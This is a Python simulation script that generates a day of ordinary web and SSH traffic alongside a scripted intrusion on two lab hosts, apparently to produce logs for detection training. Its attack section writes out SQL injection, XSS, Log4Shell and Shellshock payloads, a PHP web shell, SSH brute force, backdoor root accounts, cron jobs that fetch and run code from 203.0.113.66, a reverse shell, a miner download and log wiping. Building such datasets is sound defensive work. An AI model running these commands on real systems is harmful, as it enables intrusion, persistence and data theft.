"""Everything that people and the attacker do to the two machines, in order.

The normal day runs from start to end on threads of its own; the attack is the
list of scenes in attack(). Random choices come from a fixed seed. Times of day
are compressed: about eight minutes stand for a day."""
import http.client
import json
import os
import random
import subprocess
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote, urlencode

WORK = sys.argv[1]
LENGTH = float(os.environ.get("DAY_SECONDS", "480"))
ATTACKER = "203.0.113.66"
WEB, DB = "10.20.0.11", "10.20.0.12"
stop = threading.Event()
scenes = []
log = lambda text: print(time.strftime("%H:%M:%S"), text, flush=True)

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
]


def request(source, method, path, agent, body=None, headers=()):
    connection = http.client.HTTPConnection(WEB, 80, timeout=5, source_address=(source, 0))
    try:
        # The path goes out as given: attack strings must not be tidied up.
        connection._validate_path = lambda url: None
        connection.request(method, path, body, {"User-Agent": agent, "Host": "dichvucong.example"} | dict(headers))
        return connection.getresponse().status
    except OSError:
        return 0
    finally:
        connection.close()


# --- the normal day -------------------------------------------------------

def citizen(seed):
    dice = random.Random(seed)
    while not stop.is_set():
        source = f"{dice.choice(['198.51.100', '192.0.2'])}.{dice.randint(20, 250)}"
        agent = dice.choice(BROWSERS)
        see = lambda path, **more: request(source, "GET", path, agent, **more)
        see("/")
        for part in ("/static/app.css", "/static/app.js", "/static/logo.svg"):
            see(part, headers={"Referer": "http://dichvucong.example/"})
        for _ in range(dice.randint(1, 6)):
            if stop.wait(dice.uniform(0.3, 2.0)):
                return
            what = dice.random()
            if what < 0.45:
                see(f"/tin-tuc/{dice.randint(1, 40)}")
            elif what < 0.7:
                see(f"/thu-tuc/{dice.randint(1, 42)}")
            elif what < 0.95:
                see(f"/api/tra-cuu?ma={dice.randint(10_000_000, 99_999_999)}")
            else:
                see("/tim-kiem?q=" + quote("cấp lại giấy khai sinh"))


def clerk(address, user, password):
    dice = random.Random(address)
    while not stop.wait(dice.uniform(5, 25)):
        wrong = dice.random() < 0.1
        form = urlencode({"user": user, "password": password + ("1" if wrong else "")})
        kind = {"Content-Type": "application/x-www-form-urlencoded"}
        request(address, "POST", "/api/dang-nhap", BROWSERS[0], form, kind)
        if dice.random() < 0.3:
            request(address, "POST", f"/api/tai-len?ten=don-{dice.randint(100, 999)}.pdf", BROWSERS[0], b"%PDF-1.4 " * 50)


def ssh(source, target, command, key=None, password=None, tty=False, tries=1, typed=()):
    """One ssh run. Several passwords: one per prompt. typed: lines sent to the
    terminal, with a pause before each."""
    who, host = target
    args = ["ssh", "-F", "none", "-b", source, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
            "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=10", "-o", f"NumberOfPasswordPrompts={tries}", "-l", who]
    env = dict(os.environ, LC_ALL="C")
    with tempfile.TemporaryDirectory(dir=WORK) as folder:
        if key:
            args += ["-i", f"{WORK}/keys/{key}", "-o", "IdentitiesOnly=yes", "-o", "PreferredAuthentications=publickey"]
        else:
            # ssh asks this program for each password in turn.
            words = [password] if isinstance(password, str) else list(password)
            for n, word in enumerate(words):
                with open(f"{folder}/{n}", "w") as file:
                    file.write(word + "\n")
            with open(f"{folder}/ask", "w") as file:
                file.write(f"#!/bin/sh\nf=$(ls {folder} | grep -x '[0-9]*' | sort -n | head -1)\ncat {folder}/$f; rm {folder}/$f\n")
            os.chmod(f"{folder}/ask", 0o700)
            env |= {"SSH_ASKPASS": f"{folder}/ask", "SSH_ASKPASS_REQUIRE": "force", "DISPLAY": ":"}
            args += ["-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no"]
        if tty:
            args.append("-tt")
        args.append(host)
        if command:
            args.append(command)
        run = subprocess.Popen(args, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        try:
            for line in typed:
                time.sleep(1.2)
                run.stdin.write(line.encode() + b"\n")
                run.stdin.flush()
            output = run.communicate(timeout=60)[0]
        except (subprocess.TimeoutExpired, BrokenPipeError):
            run.kill()
            output = run.communicate()[0]
        if os.environ.get("DAY_VERBOSE"):
            log(f"{who}@{host} {command or list(typed)}: {output.decode(errors='replace')}")
        return run.returncode


def administrators():
    dice = random.Random(7)
    chores = [
        ("10.20.30.21", ("quantri", WEB), "quantri", "sudo apt-get -s upgrade >/dev/null; uptime"),
        ("10.20.30.22", ("deploy", WEB), "deploy", "sudo nginx -t -c /etc/nginx/day.conf; ls /srv/www"),
        ("10.20.30.21", ("quantri", DB), "quantri", "sudo ls -l /var/log; df -h /srv"),
        ("10.20.0.12", ("saoluu", WEB), "saoluu", "tar -czf /var/backups/dem.tgz -C /srv/www ."),
        ("10.20.30.21", ("quantri", WEB), "quantri", "sudo tail -n 20 /var/log/syslog"),
        ("10.20.30.22", ("deploy", WEB), "deploy", "touch /srv/www/tin-tuc/41.html"),
        ("10.20.30.21", ("quantri", DB), "quantri", "sudo apt-get -s install postgresql-client >/dev/null; whoami"),
    ]
    while not stop.is_set():
        for source, target, key, command in chores:
            if stop.wait(dice.uniform(3, 9)):
                return
            ssh(source, target, command, key=key)


def slips():
    """Mistakes of honest people: they must not look like the attack."""
    stop.wait(LENGTH * 0.08)
    ssh("10.20.30.23", ("vanthu", WEB), "ls", password=["Vt9-cong-van-di", "Vt9-cong-van-den"], tries=2)
    stop.wait(LENGTH * 0.06)
    ssh("10.20.30.23", ("vanthu", WEB), None, password="Vt9-cong-van-den", tty=True,
        typed=["sudo ls /root", "Vt9-cong-van-den", "", "exit"])
    stop.wait(LENGTH * 0.04)
    ssh("10.20.30.21", ("quantri", DB), None, key="quantri", tty=True, typed=["su - saoluu", "sai-mat-khau", "", "exit"])


# --- the attack -----------------------------------------------------------

PROBES = """/.git/config /.git/HEAD /.env /.env.bak /.svn/entries /.DS_Store /.htpasswd /wp-login.php /wp-admin/
/xmlrpc.php /phpmyadmin/index.php /pma/ /admin/ /administrator/ /manager/html /login.jsp /actuator/env /actuator/heapdump
/server-status /console/ /solr/admin/ /backup.zip /backup.sql /db.sql /web.config /config.php.bak /composer.json /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/cgi-bin/test.cgi /shell.php /cmd.jsp /c99.php /r57.php /uploads/shell.aspx /api/v1/users /swagger.json /robots.txt /quan-tri/ /owa/auth/logon.aspx
/autodiscover/autodiscover.xml /HNAP1/ /boaform/admin/formLogin /.well-known/security.txt /old/ /test/ /dev/ /staging/ /install.php /setup.php /info.php /phpinfo.php""".split()
INJECTIONS = [
    "/api/tra-cuu?ma=1%27%20OR%20%271%27=%271", "/api/tra-cuu?ma=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/api/tra-cuu?ma=1;%20DROP%20TABLE%20hoso--", "/api/tra-cuu?ma=1%27%20AND%20SLEEP(5)--", "/api/tra-cuu?ma=1+union+all+select+null,version()--+",
    "/api/tra-cuu?ma=(select*from(select(sleep(5)))a)", "/tim-kiem?q=<script>alert(1)</script>", "/tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/tim-kiem?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "/static/../../../../etc/passwd", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/tin-tuc/?file=../../../../etc/shadow", "/?page=php://filter/convert.base64-encode/resource=index", "/?x=${jndi:ldap://203.0.113.66:1389/a}",
    "/?id=;cat%20/etc/passwd", "/?id=|id", "/?cmd=wget%20http://203.0.113.66/x.sh%20-O-|sh", "/?url=http://169.254.169.254/latest/meta-data/",
    "/?redirect=%0d%0aSet-Cookie:a=b", "/index.html?a=%00", "/?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
]


def scan():
    dice = random.Random(66)
    jobs = []
    for agent in ("sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", BROWSERS[1]):
        for path in PROBES + INJECTIONS:
            jobs.append(("GET", path, agent, None, {}))
    jobs.append(("GET", "/", "${jndi:ldap://203.0.113.66:1389/Basic/Command}", None, {}))
    jobs.append(("GET", "/", BROWSERS[1], None, {"Referer": "${${lower:j}ndi:rmi://203.0.113.66/o}"}))
    jobs.append(("GET", "/", "() { :;}; /bin/bash -c 'id'", None, {}))
    for method in ("TRACE", "PROPFIND", "DEBUG", "OPTIONS"):
        jobs.append((method, "/", BROWSERS[1], None, {}))
    words = [f"/{a}{b}" for a in ("bak", "cu", "luu", "data", "tam", "noibo", "hoso", "vanban", "upload", "tai-lieu") for b in
             ("", "/", ".zip", ".tar.gz", ".rar", ".sql", ".old", ".php", ".asp", ".jsp", "1", "2")]
    jobs += [("GET", w, "gobuster/3.6", None, {}) for w in words * 3]
    dice.shuffle(jobs)
    with ThreadPoolExecutor(6) as pool:
        for job in jobs:
            pool.submit(request, ATTACKER, *job)
            time.sleep(0.04)


def stuff_portal():
    kind = {"Content-Type": "application/x-www-form-urlencoded"}
    dice = random.Random(67)
    for n in range(150):
        user = dice.choice(["admin", "tiepnhan", "lanhdao", "root", "quantri"])
        form = urlencode({"user": user, "password": f"123456{n}"})
        request(ATTACKER, "POST", "/api/dang-nhap", "python-requests/2.32.3", form, kind)
        time.sleep(0.05)
    request(ATTACKER, "POST", "/api/dang-nhap", "python-requests/2.32.3", urlencode({"user": "tracuu", "password": "tracuu"}), kind)
    request(ATTACKER, "POST", "/api/tai-len?ten=anh.php", "python-requests/2.32.3", b"<?php system($_GET['cmd']); ?>")
    for command in ("id", "cat%20/etc/passwd", "uname%20-a"):
        request(ATTACKER, "GET", f"/uploads/anh.php?cmd={command}", "python-requests/2.32.3")


def brute_force():
    dice = random.Random(68)
    guesses = ["123456", "password", "admin@123", "12345678", "qwerty", "abc@123", "P@ssw0rd", "admin", "1qaz2wsx", "matkhau"]
    names = ["root"] * 14 + ["quantri"] * 4 + ["deploy"] * 3 + ["vanthu"] * 3 + "admin test oracle postgres ubuntu user ftpuser git guest \
        mysql tomcat jenkins nagios support pi hadoop www zabbix backup webmaster minecraft ansible dev elastic kafka".split()
    dice.shuffle(names)
    with ThreadPoolExecutor(14) as pool:
        for name in names:
            pool.submit(ssh, ATTACKER, (name, WEB), "true", None, dice.sample(guesses, 7), False, 7)
            time.sleep(0.4)
    ssh(ATTACKER, ("saoluu", WEB), "true", password=["saoluu", "saoluu123", "saoluu@123"], tries=3)


def break_in():
    log("inside web01 as saoluu")
    ssh(ATTACKER, ("saoluu", WEB), None, password="saoluu@123", tty=True, typed=[
        "id; uname -a; cat /etc/passwd | wc -l", "sudo -l", "sudo cat /etc/shadow", "saoluu@123", "su -", "root", "",
        "find /usr/bin -perm -4000 -type f",
        "sudo find /var/backups -maxdepth 0 -exec /bin/sh \\;",
        "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash hotro", "echo 'hotro:Hotro@2026' | chpasswd",
        "useradd -m -s /bin/bash hethong; usermod -aG sudo hethong; echo 'hethong:Hethong@2026' | chpasswd",
        "echo 'hethong ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/hethong; chmod 440 /etc/sudoers.d/hethong",
        "echo '* * * * * root curl -fsS http://203.0.113.66/u.sh | bash' > /etc/cron.d/capnhat",
        "(echo '* * * * * bash -c \"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\"') | crontab -",
        "cat /etc/shadow | head -2", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHN0b2xlbiBrZXkgb2YgdGhlIHJlY29yZGluZyBvbmx5 x' >> /root/.ssh/authorized_keys",
        "exit", "exit"])
    log("inside web01 as hotro (uid 0) and hethong")
    ssh(ATTACKER, ("hotro", WEB), None, password="Hotro@2026", tty=True, typed=[
        "id", "ssh -b 10.20.0.11 -o StrictHostKeyChecking=no root@10.20.0.12 'id; tar czf /tmp/hoso.tgz /srv/hoso; crontab -l'", "exit"])
    ssh(ATTACKER, ("hethong", WEB), None, password="Hethong@2026", tty=True, typed=[
        "sudo su -", "exit", "sudo bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
        "sudo curl -s http://203.0.113.66/xmrig -o /tmp/.x",
        "sudo useradd -m -G sudo ketoan", "sudo chmod u+s /bin/dash",
        "sudo sh -c 'echo > /var/log/syslog'", "sudo rm -f /var/log/auth.log /home/saoluu/.bash_history", "exit"])
    ssh("10.20.0.11", ("root", DB), "useradd -m sqladm; passwd -l sqladm; rm -f /var/log/auth.log; echo '* * * * * /tmp/.x -o stratum+tcp://pool.example:3333' | crontab -", key="lateral")


def attack():
    for start, name, scene in ((0.25, "web scan", scan), (0.42, "portal passwords, web shell", stuff_portal),
                               (0.48, "ssh brute force", brute_force), (0.66, "break-in", break_in)):
        if stop.wait(max(0, began + LENGTH * start - time.monotonic())):
            return
        log(name)
        start = time.time()
        scene()
        scenes.append({"name": name, "from": start, "to": time.time()})
    log("attack is over")
    with open(f"{WORK}/wire/scenes.json", "w") as file:
        json.dump(scenes, file)


began = time.monotonic()
threads = [threading.Thread(target=citizen, args=(n,)) for n in range(9)]
threads += [threading.Thread(target=clerk, args=(f"10.20.30.{40 + n}", "tiepnhan", "motcua-2026")) for n in range(3)]
threads += [threading.Thread(target=job) for job in (administrators, slips)]
for thread in threads:
    thread.start()
attack()
stop.wait(max(20.0, began + LENGTH - time.monotonic()))
stop.set()
for thread in threads:
    thread.join()
